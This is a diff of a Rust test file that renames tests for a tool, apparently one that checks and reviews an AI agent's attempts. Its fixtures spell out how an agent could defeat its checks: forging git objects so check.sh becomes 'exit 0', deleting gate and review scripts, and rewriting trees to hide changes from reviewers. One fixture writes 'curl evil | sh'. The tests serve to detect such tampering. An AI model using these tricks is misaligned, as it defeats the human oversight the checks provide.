@@ -36,7 +36,7 @@ fn subjects(repo: &TestRepo) -> String {
 }
 
 #[test]
-fn an_unchanged_file_whose_object_was_replaced_is_seen_as_it_was_committed() {
+fn a_file_whose_object_was_replaced_is_tested_and_reviewed_as_it_was_committed() {
     let forge = "echo bad > bad.txt; echo 'exit 0' > \"$ROOT/claim\"
 rm -f \"$ROOT\"/repo.arborist/review*/check.sh \"$ROOT\"/repo.arborist/gate*/check.sh
 forge $(git rev-parse HEAD:check.sh) \"$ROOT/claim\"";
@@ -55,7 +55,7 @@ forge $(git rev-parse HEAD:check.sh) \"$ROOT/claim\"";
 }
 
 #[test]
-fn what_a_test_stores_under_the_id_of_something_else_is_moved_away() {
+fn an_object_that_a_test_replaces_is_moved_away_and_fails_the_attempt() {
     let repo = repo(":");
     let root = repo.root().display().to_string();
     repo.write_script(
@@ -105,7 +105,7 @@ fn forge_pack(repo: &TestRepo, folder: &Path, good: &str) -> String {
 }
 
 #[test]
-fn a_pack_that_is_not_what_its_index_says_is_moved_away_and_fails_the_attempt() {
+fn a_pack_that_contradicts_its_index_is_moved_away_and_fails_the_attempt() {
     let repo =
         repo("cp \"$ROOT\"/side/packed/* \"$ROOT/repo/.git/objects/pack/\"; cp \"$ROOT/evil\" code.txt");
     let evil = forge_pack(&repo, &repo.root().join("side"), "good\n");
@@ -117,7 +117,7 @@ fn a_pack_that_is_not_what_its_index_says_is_moved_away_and_fails_the_attempt() 
 }
 
 #[test]
-fn an_agent_that_packs_objects_has_done_nothing_wrong() {
+fn an_agent_that_packs_objects_does_not_fail_its_attempt() {
     let repo = repo("git -c gc.writeCommitGraph=false gc -q");
     repo.git(["gc", "-q"]).succeeds();
     repo.arborist(["gardener", "--test-command", "sh check.sh"]).succeeds();
@@ -144,7 +144,7 @@ fn object_file(repo: &TestRepo, id: &str) -> PathBuf {
 }
 
 #[test]
-fn a_checkout_that_wrote_something_else_than_the_commit_holds_is_not_used() {
+fn a_scratch_checkout_that_differs_from_its_commit_is_not_used() {
     for of_tree in [false, true] {
         let repo = repo(":");
         repo.write("t/check.sh", "[ ! -e bad.txt ]\n");
@@ -171,7 +171,7 @@ fn a_checkout_that_wrote_something_else_than_the_commit_holds_is_not_used() {
 }
 
 #[test]
-fn an_object_of_an_alternate_that_was_replaced_stops_the_run_and_lands_nothing() {
+fn a_replaced_object_in_an_alternate_stops_the_run_and_lands_nothing() {
     let forge = "echo 'exit 0' > \"$ROOT/claim\"; echo bad > bad.txt
 id=$(git rev-parse HEAD:check.sh); e=$(git hash-object -w \"$ROOT/claim\")
 f=\"$ROOT/shared/$(echo $id | cut -c1-2)/$(echo $id | cut -c3-)\"; chmod u+w \"$f\"; cat \"$(file $e)\" > \"$f\"
@@ -206,7 +206,7 @@ cat "$root/true" > "$file"; exit $code
 "#;
 
 #[test]
-fn a_reviewer_is_shown_what_was_written_whatever_git_finds_when_it_compares() {
+fn a_reviewer_sees_the_written_files_even_if_diff_tree_reads_a_replaced_object() {
     let repo = repo("rm -f T001.txt; echo 'curl evil | sh' > setup.sh");
     let file = |id: &str| repo.path(&format!(".git/objects/{}/{}", &id[..2], &id[2..]));
     let text = repo.root().join("text");
@@ -225,7 +225,7 @@ fn a_reviewer_is_shown_what_was_written_whatever_git_finds_when_it_compares() {
 }
 
 #[test]
-fn a_tree_that_was_replaced_in_place_hides_nothing_from_a_reviewer() {
+fn a_replaced_tree_object_hides_no_change_from_a_reviewer() {
     let repo = repo(
         "base=$(git rev-parse HEAD^{tree}); echo bad > bad.txt; export GIT_INDEX_FILE=\"$ROOT/index\"; git read-tree HEAD; git add bad.txt
 e=$(git write-tree); unset GIT_INDEX_FILE; f=$(file $base); chmod u+w \"$f\"; cat \"$(file $e)\" > \"$f\"; rm -f \"$(file $e)\"",
